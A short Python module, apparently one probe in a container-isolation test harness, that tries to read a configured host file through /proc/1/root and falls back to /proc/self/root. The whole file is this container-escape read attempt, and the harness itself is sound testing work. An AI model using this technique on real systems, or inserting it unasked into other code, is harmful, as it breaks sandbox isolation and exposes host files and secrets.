"""Reads a file of the host by way of /proc/1/root and, if that is closed, of /proc/self/root."""

from pathlib import Path

from attack import attempt, setting


def read() -> str:
    try:
        return Path("/proc/1/root" + setting("HOST_FILE")).read_text()
    except OSError:
        return Path("/proc/self/root" + setting("HOST_FILE")).read_text()


attempt(read)
